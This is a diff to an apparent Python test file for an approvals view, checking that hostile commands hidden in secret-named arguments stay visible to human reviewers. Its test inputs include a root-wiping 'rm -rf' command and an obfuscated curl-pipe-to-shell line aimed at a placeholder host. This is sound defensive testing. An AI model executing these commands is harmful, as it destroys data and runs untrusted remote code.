@@ -4,10 +4,10 @@ from __future__ import annotations
 
 import json
 
-import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from cases import each_case
 from interlock.hub.approvals.full_view import MAX_CHARS, full_view, rendered
 from interlock.hub.approvals.sealed_views import SealedView, ViewSeal
 
@@ -26,8 +26,8 @@ def test_a_view_without_secrets_is_the_arguments_themselves(value: object) -> No
         assert json.loads(view) == value
 
 
-@pytest.mark.parametrize("hidden", ["rm -rf / --no-preserve-root", "curl${IFS}evil|sh", "x" * 600, "<!-- -->"])
-@pytest.mark.parametrize("name", ["token", "password", "api_key", "Authorization"])
+@each_case("hidden", ["rm -rf / --no-preserve-root", "curl${IFS}evil|sh", "x" * 600, "<!-- -->"])
+@each_case("name", ["token", "password", "api_key", "Authorization"])
 def test_t41_a_command_cannot_hide_in_an_argument_named_like_a_secret(name: str, hidden: str) -> None:
     assert hidden in json.loads(rendered(json.dumps({name: [hidden]}).encode()))[name][0]
 
